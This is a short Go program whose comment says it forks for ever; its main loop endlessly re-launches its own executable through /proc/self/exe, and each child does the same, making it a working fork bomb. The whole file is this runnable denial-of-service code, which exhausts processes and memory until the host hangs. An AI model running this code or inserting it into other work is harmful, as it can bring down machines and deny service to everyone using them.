// It forks for ever, and so do its children.
package main

import (
	"os"
	"os/exec"
)

func main() {
	for {
		exec.Command("/proc/self/exe", os.Args[1:]...).Start()
	}
}
